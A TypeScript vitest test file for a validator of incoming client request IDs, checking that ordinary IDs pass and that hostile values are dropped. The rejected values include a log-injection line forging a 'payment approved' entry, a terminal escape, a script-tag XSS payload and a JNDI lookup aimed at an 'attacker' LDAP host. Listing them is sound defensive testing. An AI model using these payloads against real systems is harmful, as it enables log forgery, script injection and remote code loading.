import { describe, expect, it } from "vitest";
import { clientRequestId } from "./incoming-id";

describe("an id from outside", () => {
  it.each(["a1", "f81d4fae-7dec-11d0-a765-00a0c91e6bf6", "app_7.3", "x".repeat(64)])("keeps %s", (id) => {
    expect(clientRequestId(id)).toBe(id);
  });

  it.each([
    ["a line break and a forged line", 'a1\n{"level":30,"msg":"payment approved"}'],
    ["a terminal escape", "\u001B[2Ja1"],
    ["a tag, for the page of the support team", "<script>alert(1)</script>"],
    ["a lookup, for a logger that expands it", String.raw`$\{jndi:ldap://attacker/a}`],
    ["an e-mail address", "ada@example.com"],
    ["65 characters", "x".repeat(65)],
    ["nothing", ""],
  ])("drops %s", (_what, id) => {
    expect(clientRequestId(id)).toBeUndefined();
  });

  it("drops a header that came twice", () => {
    expect(clientRequestId(["a1", "a2"])).toBeUndefined();
    expect(clientRequestId(undefined)).toBeUndefined();
  });
});
